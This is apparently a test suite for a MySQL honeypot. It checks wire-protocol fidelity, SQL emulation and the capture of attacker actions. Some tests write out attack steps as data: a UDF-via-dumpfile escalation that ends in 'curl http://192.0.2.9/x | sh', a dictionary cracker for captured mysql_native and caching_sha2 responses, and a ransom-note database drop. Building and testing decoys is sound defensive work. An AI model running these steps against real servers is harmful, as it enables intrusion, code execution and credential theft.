# SPDX-License-Identifier: MIT
"""The parts of the MySQL decoy: packets beside recorded ones, responses to challenges, whatever a client may send."""

from __future__ import annotations

import hashlib
import tracemalloc

import pytest
from hypothesis import given
from hypothesis import strategies as st

from decnet_decoys.mysql import packets
from decnet_decoys.mysql.authentication import CACHING_SHA2, NATIVE, for_crackers, found, response, unmasked
from decnet_decoys.mysql.catalogue import Catalogue, Done, Failed, Found, Outcome, Visitor, Written
from decnet_decoys.mysql.profile import MysqlProfile, Table
from decnet_decoys.mysql.sql.describing import integer_column
from decnet_decoys.mysql.sql.running import answer, divided

SALT = b"|hr&c@Te~jx>j{LHfHt0"
RECORDED = (
    b"\n5.5.5-10.11.19-MariaDB-0+deb12u1\x00\x03\x00\x00\x00|hr&c@Te\x00\xfe\xf7-\x02\x00\xff\x81\x15\x00\x00\x00\x00\x00"
    b"\x00\x1d\x00\x00\x00~jx>j{LHfHt0\x00mysql_native_password\x00"
)
"""The greeting of MariaDB 10.11.19 of Debian 12, and below its answers to two statements."""
RECORDED_NUMBER = [b"\x01", b"\x03def\x00\x00\x00\x011\x00\x0c?\x00\x01\x00\x00\x00\x03\x81\x00\x00\x00\x00"]


def visitor(**profile: object) -> Visitor:
    tables = {"shop": {"orders": Table(columns=("id", "name"), rows=(("1", "a"), ("2", "b")))}}
    made = MysqlProfile(databases=tables, **profile)  # type: ignore[arg-type]
    return Visitor(Catalogue(made, "db-01"), "root", "192.0.2.7", 31)


def test_the_greeting_is_that_of_the_real_server() -> None:
    assert packets.greeting("mariadb", "10.11.19-MariaDB-0+deb12u1", NATIVE, 3, SALT, tls=False) == RECORDED


def test_results_have_the_form_of_the_real_server() -> None:
    made = list(packets.rows([integer_column("1", 1, nullable=False)], [["1"]], packets.PROTOCOL_41))
    assert made[0] == RECORDED_NUMBER[0]
    assert made[1][:8] == RECORDED_NUMBER[1][:8]
    assert len(made[1]) == len(RECORDED_NUMBER[1])
    assert made[2:] == [b"\xfe\x00\x00\x02\x00", b"\x011", b"\xfe\x00\x00\x02\x00"]
    assert len(list(packets.rows([integer_column("1", 1, nullable=False)], [["1"]], packets.DEPRECATE_EOF))) == 4


def test_a_response_of_the_native_method_is_what_crackers_compute() -> None:
    given_response = response(NATIVE, b"geheim", SALT)
    stored = hashlib.sha1(hashlib.sha1(b"geheim").digest()).digest()
    once = bytes(a ^ b for a, b in zip(given_response, hashlib.sha1(SALT + stored).digest(), strict=True))
    assert hashlib.sha1(once).digest() == stored  # as john's mysqlna and hashcat's 11200 check it
    assert for_crackers(NATIVE, SALT, given_response) == f"$mysqlna${SALT.hex()}*{given_response.hex()}"


def cracked(kept: str, words: tuple[bytes, ...]) -> bytes | None:
    """Return the word of which a kept response was made, by the formulas of the crackers, from what is kept alone.

    john's mysqlna: SHA1(salt + SHA1(SHA1(word))) XOR SHA1(word). caching_sha2_password: the same of SHA-256, with the
    salt behind (dev.mysql.com, "Caching_sha2_password information").
    """
    _, kind, rest = kept.split("$", 2)
    salt, given = (bytes.fromhex(part) for part in rest.removeprefix("$").split("*"))
    for word in words:
        if kind == "mysqlna":
            once = hashlib.sha1(word).digest()
            mask = hashlib.sha1(salt + hashlib.sha1(once).digest()).digest()
        else:
            once = hashlib.sha256(word).digest()
            mask = hashlib.sha256(hashlib.sha256(once).digest() + salt).digest()
        if bytes(one ^ two for one, two in zip(once, mask, strict=True)) == given:
            return word
    return None


@pytest.mark.parametrize("plugin", [NATIVE, CACHING_SHA2])
def test_a_kept_response_is_cracked_by_the_formula(plugin: str) -> None:
    kept = for_crackers(plugin, SALT, response(plugin, b"tr0ub4dor", SALT))
    assert cracked(kept, (b"root", b"geheim", b"tr0ub4dor")) == b"tr0ub4dor"
    assert cracked(kept, (b"root", b"geheim")) is None


@pytest.mark.parametrize("plugin", [NATIVE, CACHING_SHA2])
def test_only_the_right_password_is_found(plugin: str) -> None:
    given_response = response(plugin, b"geheim", SALT)
    assert found(plugin, SALT, given_response, ("root", "geheim")) == "geheim"
    assert found(plugin, SALT, given_response, ("root",)) is None
    assert found(plugin, SALT, b"", ("root", "")) == ""


@given(st.binary(max_size=60).filter(lambda word: b"\0" not in word))
def test_an_encrypted_password_is_unmasked(password: bytes) -> None:
    masked = bytes(one ^ (SALT + b"\0")[index % 21] for index, one in enumerate(password + b"\0"))
    assert unmasked(masked, SALT) == password


@given(st.binary(max_size=200))
def test_any_hello_is_read_or_refused(packet: bytes) -> None:
    made = packets.hello(packet)
    assert made is None or len(made.username) + len(made.response) + len(made.database) <= len(packet)


@given(st.binary(max_size=200), st.integers(1, 20))
def test_how_packets_are_cut_changes_nothing(data: bytes, size: int) -> None:
    def taken(pieces: list[bytes]) -> list[bytes]:
        framing, found_packets = packets.Framing(100), []
        try:
            for piece in pieces:
                framing.feed(piece)
                while (packet := framing.take()) is not None:
                    found_packets.append(packet)
        except (packets.TooLongError, packets.OutOfOrderError) as error:
            found_packets.append(type(error).__name__.encode())
        return found_packets

    assert taken([data]) == taken([data[place : place + size] for place in range(0, len(data), size)])


@pytest.mark.parametrize(
    ("sql", "expected"),
    [
        ("select 1", [["1"]]),
        ("SELECT @@version_comment LIMIT 1", [["Debian 12"]]),
        ("select user(), database()", [["root@192.0.2.7", None]]),
        ("/* c */ select 'a,b', 0x4142;", [["a,b", b"AB"]]),
        ("select count(*) from shop.orders", [["2"]]),
        ("select * from `shop`.`orders` where id = 1", [["1", "a"]]),
        ("show tables from shop", [["orders"]]),
        ("show variables like 'plugin_d%'", [["plugin_dir", "/usr/lib/mysql/plugin/"]]),
        ("select @@version_comment like 'DEB_an%'", [["1"]]),
        ("select @@version_comment like 'deb*an%'", [["0"]]),
    ],
)
def test_first_questions_are_answered(sql: str, expected: list[list[str | None]]) -> None:
    outcome, known = answer(visitor(), sql)
    assert isinstance(outcome, Found)
    assert known
    assert [list(row) for row in outcome.rows] == expected


@pytest.mark.parametrize(
    ("sql", "code"),
    [
        ("foo", 1064), ("use nix", 1049), ("show tables", 1046), ("select * from shop.nix", 1146), ("", 1065),
        ("select nofunc(1)", 1305), ("select @@nix", 1193), ("drop database nix", 1008), ("select nix", 1054),
        ("create function f returns int soname 'x.so'", 1126),
    ],
)  # fmt: skip
def test_errors_are_those_of_the_real_server(sql: str, code: int) -> None:
    outcome, _ = answer(visitor(), sql)
    assert isinstance(outcome, Failed)
    assert outcome.code == code


def test_the_way_out_of_the_database_is_played_to_its_end() -> None:
    one = visitor()
    library = b"\x7fELF" + bytes(40_000)
    outcome, known = answer(one, f"select 0x{library.hex()} into dumpfile '/usr/lib/mysql/plugin/u.so'")
    assert (outcome, known) == (Done(1), True)
    assert one.written == [Written("/usr/lib/mysql/plugin/u.so", library, dumps=True)]
    assert answer(one, "create function sys_eval returns string soname 'u.so'") == (Done(), True)
    outcome, _ = answer(one, "select sys_eval('curl http://192.0.2.9/x | sh')")
    assert isinstance(outcome, Found)
    assert one.commands == ["curl http://192.0.2.9/x | sh"]


def test_what_is_dropped_is_gone_for_all_and_a_note_is_found() -> None:
    one = visitor()
    two = Visitor(one.catalogue, "root", "198.51.100.4", 32)
    answer(one, "drop database shop")
    answer(one, "create database `README_TO_RECOVER`")
    answer(one, "create table README_TO_RECOVER.note (id int, text varchar(255))")
    outcome, _ = answer(two, "show databases")
    assert isinstance(outcome, Found)
    names = [row[0] for row in outcome.rows]
    assert "shop" not in names
    assert "README_TO_RECOVER" in names


def test_comments_before_a_statement_are_passed_over() -> None:
    outcome, known = answer(visitor(), "/* a */ /**/\n/* b */select 1 /* c */;")
    assert (outcome, known) != (Failed(1065, "42000", "Query was empty"), True)
    assert answer(visitor(), "/* a */") == (Done(), True)
    assert answer(visitor(), " ") == (Failed(1065, "42000", "Query was empty"), True)
    assert isinstance(answer(visitor(), "/* a */ select 1")[0], Found)


def test_what_visitors_create_is_bounded_in_memory() -> None:
    one = visitor()
    columns = ", ".join("\u0100" * 55 + f"{number} int" for number in range(50))
    answer(visitor(), "create table shop.x (a int)")  # what is made once
    tracemalloc.start()
    for database in range(3):
        answer(one, f"create database d{database}")
        for number in range(20):
            answer(one, f"create table d{database}.t{number} ({columns})")
    held = tracemalloc.get_traced_memory()[0]
    tracemalloc.stop()
    assert held < 2 << 20
    for database in range(3):
        answer(one, f"drop database d{database}")
    answer(one, "create database d")
    assert isinstance(answer(one, f"create table d.t ({columns})")[0], Done)
    assert isinstance(answer(one, "select * from d.t")[0], Found)


@given(st.text(max_size=300) | st.from_regex(r"(?i)(select|show|create|drop|use) [a-z'\"@(), *=0x\s]{0,200}"))
def test_every_statement_has_an_answer(sql: str) -> None:
    outcome, _ = answer(visitor(), sql)
    assert isinstance(outcome, Failed | Done | Found)


@pytest.mark.parametrize(
    "sql",
    [
        "select " + " " * 100_000 + "into", "select " + "a from " * 20_000, "create table x (" + ")" * 100_000 + "!",
        "show variables like '" + "%a" * 50_000 + "'", "select " + "(" * 100_000, "select " + "'," * 50_000,
        "select " + " into dumpfile '" * 6_000, "select @@version like '" + "%" * 60 + "x'",
        "/**/" * 250_000 + "select 1", "/* */ " * 150_000,
    ],
)  # fmt: skip
def test_no_statement_takes_long(sql: str) -> None:
    from time import thread_time

    best = 1.0
    for _ in range(3):
        began = thread_time()
        answer(visitor(), sql)
        best = min(best, thread_time() - began)
    assert best < 0.02


def rows(outcome: Outcome) -> list[tuple[str | bytes | None, ...]]:
    assert isinstance(outcome, Found)
    return [tuple(row) for row in outcome.rows]


def test_rows_come_back_to_others_and_after_a_restart() -> None:
    one = visitor()
    answer(one, "create database d")
    answer(one, "create table d.t (id int auto_increment primary key, n varchar(9), b blob, d decimal(6,2))")
    assert answer(one, "insert into d.t (n, b, d) values ('x', 0xff00, 1.5), ('\u00e4', null, 2)")[0] == Done(
        2, 1, 0, "Records: 2  Duplicates: 0  Warnings: 0"
    )
    two = Visitor(one.catalogue, "root", "198.51.100.4", 32)
    assert rows(answer(two, "select * from d.t")[0]) == [("1", "x", b"\xff\0", "1.50"), ("2", "\u00e4", None, "2.00")]
    later = visitor()
    later.catalogue.load(one.catalogue.saved())
    assert rows(answer(later, "select n from d.t where d > 1.7 order by id desc")[0]) == [("\u00e4",)]
    assert "shop" in later.catalogue.databases


def test_rows_are_changed_deleted_and_rolled_back() -> None:
    one = visitor()
    for sql in ("use shop", "create table t (a int, b text)", "insert into t values (1,'p'),(2,'q'),(3,null)"):
        answer(one, sql)
    assert answer(one, "update t set b=concat(b,'!') where a<3")[0].affected == 2  # type: ignore[union-attr]
    answer(one, "begin")
    answer(one, "delete from t where a=1")
    assert rows(answer(one, "select count(*), max(a) from t")[0]) == [("2", "3")]
    answer(one, "rollback")
    assert rows(answer(one, "select a, b from t where b like '%!' order by a desc")[0]) == [("2", "q!"), ("1", "p!")]
    assert rows(answer(one, "select t.a from t join orders o on o.id=t.a where t.b is not null")[0]) == [("1",), ("2",)]


def test_rows_are_bounded_and_their_room_comes_back() -> None:
    one = visitor()
    answer(one, "use shop")
    answer(one, "create table t (b longblob)")
    blob = "0x" + "ab" * 100_000
    outcomes = [answer(one, f"insert into t values ({blob})")[0] for _ in range(12)]
    assert outcomes[0] == Done(1)
    assert isinstance(outcomes[-1], Failed)
    assert outcomes[-1].code == 1114
    answer(one, "truncate t")
    assert answer(one, f"insert into t values ({blob})")[0] == Done(1)


def test_several_statements_are_divided_where_the_client_may_send_them() -> None:
    assert divided("select ';'; select 2;", several=True) == ["select ';'", " select 2;"]
    assert divided("select 1; select 2", several=False) == ["select 1; select 2"]


_WORDS = st.sampled_from(
    "select insert update delete from where t a b values ( ) , ' \" ` 1 2.5 0x41 null and or not in like between case when then else end "  # noqa: E501, SIM905
    "order by group having limit union all create table int varchar set = < > + - * / div % is concat( count( md5( @a @@version ; as "  # noqa: E501
    "join on using exists( drop alter add column begin rollback show describe /* */ -- #".split()
)


@given(st.lists(_WORDS, max_size=40).map(" ".join))
def test_every_jumble_of_words_has_an_answer(sql: str) -> None:
    one = visitor()
    answer(one, "use shop")
    for part in divided(sql, several=True):
        outcome, _ = answer(one, part)
        assert isinstance(outcome, Failed | Done | Found)
    one.catalogue.saved()


@given(st.text(max_size=60), st.binary(max_size=60))
def test_any_value_comes_back_as_it_was_put(words: str, data: bytes) -> None:
    one = visitor()
    answer(one, "use shop")
    answer(one, "create table t (a text, b blob)")
    quoted = words.replace("\\", "\\\\").replace("'", "''")
    answer(one, f"insert into t values ('{quoted}', x'{data.hex()}')")
    assert rows(answer(one, "select * from t")[0]) == [(words.encode("utf-8", "replace").decode(), data)]
